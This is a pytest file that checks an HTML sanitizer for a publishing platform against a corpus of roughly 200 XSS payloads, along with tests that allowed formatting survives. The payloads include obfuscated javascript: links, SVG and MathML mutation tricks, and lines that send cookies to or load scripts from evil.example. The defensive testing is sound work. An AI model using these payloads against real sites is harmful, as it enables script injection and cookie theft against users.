"""posts.sanitize.clean_html against a corpus of XSS payloads, and what it must keep.

The checks parse the sanitized output with the standard library's html.parser (a different parser
than nh3's html5ever) and look at what a browser would see: elements, attributes, link schemes.
"""

import re
import unicodedata
from html.parser import HTMLParser

import pytest

from posts.sanitize import clean_html

ALLOWED_TAGS = {"p", "br", "strong", "b", "em", "i", "a", "ul", "ol", "li", "blockquote"}
ALLOWED_ATTRIBUTES = {"a": {"href", "title", "rel"}}
ALLOWED_SCHEMES = {"http", "https", "mailto"}
FORBIDDEN_TAGS = {"script", "iframe", "svg", "math", "object"}
LINK_REL = "noopener noreferrer"

XSS_PAYLOADS = [
    # Classic script tags
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    '<script src="https://evil.example/x.js"></script>',
    "<script/src=//evil.example/x.js></script>",
    "<script\n>alert(1)</script\n>",
    "<script>alert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<p>Hallo<script>document.location='https://evil.example/?c='+document.cookie</script></p>",
    '<script type="text/javascript">alert(1)</script>',
    '<script type="module">import("https://evil.example/x.js")</script>',
    '<script>alert("</script><img src=x onerror=alert(1)>")</script>',
    "<script>/*</script><img src=x onerror=alert(1)>*/</script>",
    "</script><script>alert(1)</script>",
    # Event handlers on many tags
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    '<p onclick="alert(1)">Klick</p>',
    '<p onmouseover="alert(1)">Text</p>',
    '<a href="https://example.org/" onclick="alert(1)">Link</a>',
    '<a href="https://example.org/" onmouseover=alert(1)>Link</a>',
    '<strong onmouseenter="alert(1)">fett</strong>',
    '<em onfocus="alert(1)" tabindex=0 autofocus>kursiv</em>',
    '<b onpointerdown="alert(1)">b</b>',
    '<i onanimationstart="alert(1)" style="animation-name:x">i</i>',
    '<ul onclick="alert(1)"><li onclick="alert(1)">Punkt</li></ul>',
    '<ol ondblclick="alert(1)"><li>eins</li></ol>',
    '<blockquote oncopy="alert(1)">Zitat</blockquote>',
    "<br onload=alert(1)>",
    "<div onmouseover=alert(1)>div</div>",
    "<span onclick=alert(1)>span</span>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background=javascript:alert(1)><tr><td onclick=alert(1)>x</td></tr></table>",
    "<input type=image src=x onerror=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<frameset onload=alert(1)>",
    "<html onmouseover=alert(1)>",
    "<p/onclick=alert(1)>x</p>",
    '<p\nonclick="alert(1)">x</p>',
    "<p onclick\t=\talert(1)>x</p>",
    "<p oNcLiCk=alert(1)>x</p>",
    "<p onclick=alert`1`>x</p>",
    '<p title="x" onclick="alert(1)" title="y">x</p>',
    "<a onafterscriptexecute=alert(1)><script>1</script></a>",
    "<x onclick=alert(1)>unknown element</x>",
    "<custom-element onclick=alert(1)>c</custom-element>",
    # javascript:/vbscript:/data: URLs with obfuscation
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JAVASCRIPT:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    "<a href=javascript:alert(1)>x</a>",
    "<a href='javascript:alert(1)'>x</a>",
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\tjavascript:alert(1)">x</a>',
    '<a href="\njavascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java\rscript:alert(1)">x</a>',
    '<a href="java script:alert(1)">x</a>',
    '<a href="javascript :alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java&#x0A;script:alert(1)">x</a>',
    '<a href="java&#x0D;script:alert(1)">x</a>',
    '<a href="java&#9;script:alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="java&NewLine;script:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="&#14;javascript:alert(1)">x</a>',
    '<a href="&#x20;javascript:alert(1)">x</a>',
    '<a href="java&#0;script:alert(1)">x</a>',
    '<a href="java\x00script:alert(1)">x</a>',
    '<a href="java\x0bscript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112'
    '&#0000116&#0000058alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href="&#x6a;avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="javascript&#58;alert(1)">x</a>',
    '<a href="javascript&#x3a;alert(1)">x</a>',
    '<a href="jav&#x61;script:alert(1)">x</a>',
    '<a href="javascript:alert(1)//https://example.org/">x</a>',
    '<a href="javascript://https://example.org/%0aalert(1)">x</a>',
    '<a href="javascript:void(0)" onclick="alert(1)">x</a>',
    '<a href="\u2028javascript:alert(1)">x</a>',
    '<a href="\u00a0javascript:alert(1)">x</a>',
    '<a href="java\u00adscript:alert(1)">x</a>',
    '<a href="java\u200bscript:alert(1)">x</a>',
    '<a href="\ufeffjavascript:alert(1)">x</a>',
    '<a href="ｊａｖａｓｃｒｉｐｔ:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBScript:MsgBox(1)">x</a>',
    '<a href="vbs&#99;ript:msgbox(1)">x</a>',
    '<a href="livescript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    '<a href=" data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="da&#x09;ta:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:image/svg+xml,<svg onload=alert(1)>">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="ftp://example.org/">x</a>',
    '<a href="blob:https://example.org/uuid">x</a>',
    '<a href="filesystem:https://example.org/temporary/x">x</a>',
    '<a href="mhtml:https://example.org/x.mht!xss">x</a>',
    '<a href="jar:https://example.org/x.jar!/">x</a>',
    '<a href="intent://x#Intent;scheme=javascript;end">x</a>',
    '<a href="tel:+491234">x</a>',
    '<a href="https:javascript:alert(1)" title="javascript:alert(1)">x</a>',
    "<a href=`javascript:alert(1)`>x</a>",
    '<a href="javascript:alert(1)" href="https://example.org/">x</a>',
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<a href="https://example.org/" style="background:url(javascript:alert(1))">x</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img dynsrc="javascript:alert(1)">',
    '<img lowsrc="javascript:alert(1)">',
    '<img srcset="javascript:alert(1)">',
    '<input type="image" src="javascript:alert(1)">',
    '<bgsound src="javascript:alert(1)">',
    # SVG tricks
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    '<svg><a href="javascript:alert(1)"><rect width=100 height=100 /></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(1)" /></svg>',
    '<svg><animate attributeName="href" values="javascript:alert(1)" /><a><text>x</text></a></svg>',
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x" /></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    '<svg><image href="x" onerror="alert(1)" /></svg>',
    "<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>alert(1)</handler></svg>",
    # MathML tricks
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<math href="javascript:alert(1)">CLICK</math>',
    "<math><maction actiontype=statusline#http://example.org xlink:href=javascript:alert(1)>x"
    "</maction></math>",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style>"
    '<a title="</style><img src onerror=alert(1)>">',
    "<math><style><img src=x onerror=alert(1)></style></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style>'
    "</annotation-xml></math>",
    # iframe / object / embed / base / meta / form / style / link
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
    "<iframe/onload=alert(1)>",
    '<object data="javascript:alert(1)"></object>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>',
    '<embed src="javascript:alert(1)">',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<applet code="Evil.class" codebase="https://evil.example/"></applet>',
    '<base href="javascript:alert(1)//">',
    '<base href="https://evil.example/"><a href="/login">x</a>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0; url=data:text/html,<script>alert(1)</script>">',
    '<meta charset="x-imap4-modified-utf7">&ADz&AGn&AG0&AEf&ACA&AHM&AHI&AGO&AD0&AGn&ACA&AG8Abg'
    "&AGUAcgByAG8AcgA9AGEAbABlAHIAdAAoADEAKQ&ACAAPQ&AC8&AD4",
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    "<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>",
    '<form action="https://evil.example/phish"><input name=password type=password></form>',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style>*{x:expression(alert(1))}</style>",
    '<p style="background-image:url(javascript:alert(1))">x</p>',
    '<p style="x:expression(alert(1))">x</p>',
    '<p style="behavior:url(x.htc)">x</p>',
    '<b style="-moz-binding:url(https://evil.example/x.xml#xss)">x</b>',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<link rel="import" href="https://evil.example/x.html">',
    "<xml><x:script>alert(1)</x:script></xml>",
    '<portal src="https://evil.example/"></portal>',
    "<frameset><frame src=javascript:alert(1)></frameset>",
    # Mutation XSS
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
    '<p title="</p><img src=x onerror=alert(1)>">x</p>',
    '<a title="</a><img src=x onerror=alert(1)>" href="https://example.org/">x</a>',
    '<a href="https://example.org/" title="&quot; onmouseover=alert(1) x=&quot;">x</a>',
    '<a href="https://example.org/" title=\'" onmouseover=alert(1) x="\'>x</a>',
    "<p><svg><p><style><img src=x onerror=alert(1)></style></p></svg></p>",
    '<table><td><a href="</td><img src=x onerror=alert(1)>">x</a></td></table>',
    "<select><template><style><img src=x onerror=alert(1)></style></template></select>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing><img src=x onerror=alert(1)></listing>",
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>',
    '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>',
    '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
    '<a href="https://example.org/"><a href="javascript:alert(1)">nested</a></a>',
    "<b><p><i>mis<b>nested</i></p>x<img src=x onerror=alert(1)>",
    "<p>&lt;img src=x onerror=alert(1)&gt;</p>",
    "<p>&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;</p>",
    '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">',
    "<p>\x00<script>alert(1)</script></p>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img src=x on\x00error=alert(1)>",
    "<p>`<img src=x onerror=alert(1)>`</p>",
    # Comments
    "<!--<script>alert(1)</script>-->",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--[if]><script>alert(1)</script -->",
    "<p><!-- </p><img src=x onerror=alert(1)> --></p>",
    '<?xml-stylesheet href="javascript:alert(1)"?>',
    "<!DOCTYPE html><script>alert(1)</script>",
    '<! foo="><script>alert(1)</script>">',
    '</x foo="><script>alert(1)</script>">',
    # CDATA
    "<![CDATA[<script>alert(1)</script>]]>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<math><![CDATA[</math><img src=x onerror=alert(1)>]]>",
    # template / textarea nesting
    "<template><script>alert(1)</script></template>",
    "<template><img src=x onerror=alert(1)></template>",
    "<template><template><img src=x onerror=alert(1)></template></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    "<template><textarea></template><img src=x onerror=alert(1)></textarea>",
    "<textarea><template><img src=x onerror=alert(1)></template></textarea>",
    "<p><template><a href=javascript:alert(1)>x</a></template></p>",
    # Mixed with allowed formatting
    '<p><strong>Wahl</strong> <a href="javascript:alert(1)" title="Ergebnis">Ergebnis</a></p>',
    '<ul><li><a href="https://example.org/" target="_blank" rel="opener">Quelle</a></li></ul>',
    '<blockquote cite="javascript:alert(1)"><p>Zitat</p></blockquote>',
    '<p id="x" class="evil" data-x="1" lang="de">Text</p>',
    '<a href="https://example.org/" name="x" id="y" ping="https://evil.example/">Link</a>',
    '<a href="https://example.org/" download>Datei</a>',
    '<a href="https://example.org/" formaction="javascript:alert(1)">x</a>',
    '<strong><em><a href="data:text/html,x">x</a></em></strong>',
]


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    def handle_startendtag(self, tag, attrs):
        self.elements.append((tag, attrs))


def parse(html: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    """Start tags with their attributes (entities decoded) as the stdlib parser sees them."""
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector.elements


def url_scheme(url: str) -> str | None:
    """The scheme of an (already entity-decoded) URL, read as suspiciously as possible.

    Whitespace, control and invisible formatting characters are dropped anywhere (browsers only
    drop some of them, and only in some places), then the value is lowercased.
    """
    squeezed = "".join(
        ch for ch in url if not ch.isspace() and unicodedata.category(ch) not in {"Cc", "Cf"}
    ).lower()
    match = re.match(r"([a-z][a-z0-9+.\-]*):", squeezed)
    return match.group(1) if match else None


def payload_ids():
    return [f"payload{i:03d}" for i in range(len(XSS_PAYLOADS))]


def test_corpus_has_at_least_150_distinct_payloads():
    assert len(set(XSS_PAYLOADS)) == len(XSS_PAYLOADS)
    assert len(XSS_PAYLOADS) >= 150


@pytest.mark.parametrize("payload", XSS_PAYLOADS, ids=payload_ids())
def test_payload_output_contains_only_allowed_elements_and_attributes(payload):
    for tag, attrs in parse(clean_html(payload)):
        assert tag not in FORBIDDEN_TAGS
        assert tag in ALLOWED_TAGS
        for name, _value in attrs:
            assert not name.startswith("on")
            assert name != "style"
            assert name in ALLOWED_ATTRIBUTES.get(tag, set())


@pytest.mark.parametrize("payload", XSS_PAYLOADS, ids=payload_ids())
def test_payload_output_links_use_only_http_https_or_mailto(payload):
    for tag, attrs in parse(clean_html(payload)):
        for name, value in attrs:
            if name == "href":
                scheme = url_scheme(value or "")
                assert scheme is None or scheme in ALLOWED_SCHEMES, value
            if tag == "a" and name == "rel":
                assert value == LINK_REL


@pytest.mark.parametrize("payload", XSS_PAYLOADS, ids=payload_ids())
def test_sanitizing_is_idempotent(payload):
    once = clean_html(payload)
    assert clean_html(once) == once


def test_script_tag_is_removed_with_its_content():
    assert clean_html("<p>Vorher</p><script>alert(1)</script><p>Nachher</p>") == (
        "<p>Vorher</p><p>Nachher</p>"
    )


def test_event_handler_is_removed_and_element_kept():
    assert clean_html('<p onclick="alert(1)">Text</p>') == "<p>Text</p>"


def test_javascript_link_loses_href_but_keeps_text():
    assert clean_html('<a href="javascript:alert(1)">Ergebnis</a>') == (f'<a rel="{LINK_REL}">Ergebnis</a>')


@pytest.mark.parametrize(
    "href",
    ["java script:alert(1)", "java\u00adscript:alert(1)", "\u2028javascript:alert(1)", "java\x00script:x"],
)
def test_obfuscated_javascript_href_that_only_looks_relative_is_dropped(href):
    assert "href" not in clean_html(f'<a href="{href}">x</a>')


def test_title_and_lang_are_dropped_outside_links():
    assert clean_html('<p title="t" lang="en">Text</p>') == "<p>Text</p>"
    assert clean_html('<a href="https://example.org/" lang="en">x</a>') == (
        f'<a href="https://example.org/" rel="{LINK_REL}">x</a>'
    )


def test_escaped_markup_stays_text():
    html = "<p>a &lt;script&gt; &amp; b</p>"
    assert clean_html(html) == html


@pytest.mark.parametrize(
    "html",
    [
        "<p><strong>fett</strong> und <b>auch fett</b></p>",
        "<p><em>kursiv</em> und <i>auch kursiv</i></p>",
        "<ul><li>eins</li><li>zwei</li></ul>",
        "<ol><li>erstens</li><li>zweitens</li></ol>",
        "<blockquote><p>Ein Zitat.</p></blockquote>",
        "<p>Zeile eins<br>Zeile zwei</p>",
        "<p>„Wir haben gewonnen“, sagte sie – und ging. Größe, Maß, Ärger, Öl, Übermut.</p>",
        "<p>Sie sagte: ‚Nein‘ … 5 € – §&nbsp;3 &amp; 4</p>",
    ],
)
def test_allowed_formatting_survives_unchanged(html):
    assert clean_html(html) == html


def test_links_keep_href_and_title_and_get_rel_noopener_noreferrer():
    html = '<p><a href="https://example.org/wahl?x=1&amp;y=2" title="Ergebnisse">Ergebnisse</a></p>'
    assert clean_html(html) == (
        '<p><a href="https://example.org/wahl?x=1&amp;y=2" title="Ergebnisse" '
        f'rel="{LINK_REL}">Ergebnisse</a></p>'
    )


def test_mailto_and_http_links_survive():
    assert clean_html('<a href="mailto:redaktion@example.org">Mail</a>') == (
        f'<a href="mailto:redaktion@example.org" rel="{LINK_REL}">Mail</a>'
    )
    assert clean_html('<a href="http://example.org/">alt</a>') == (
        f'<a href="http://example.org/" rel="{LINK_REL}">alt</a>'
    )


def test_editor_supplied_rel_and_target_are_replaced():
    assert clean_html('<a href="https://example.org/" rel="opener" target="_blank">x</a>') == (
        f'<a href="https://example.org/" rel="{LINK_REL}">x</a>'
    )


@pytest.mark.parametrize("html", ["", None, "<p></p>", "<p><br></p>", "  <p></p>\n"])
def test_empty_editor_paragraph_becomes_empty_string(html):
    assert clean_html(html) == ""
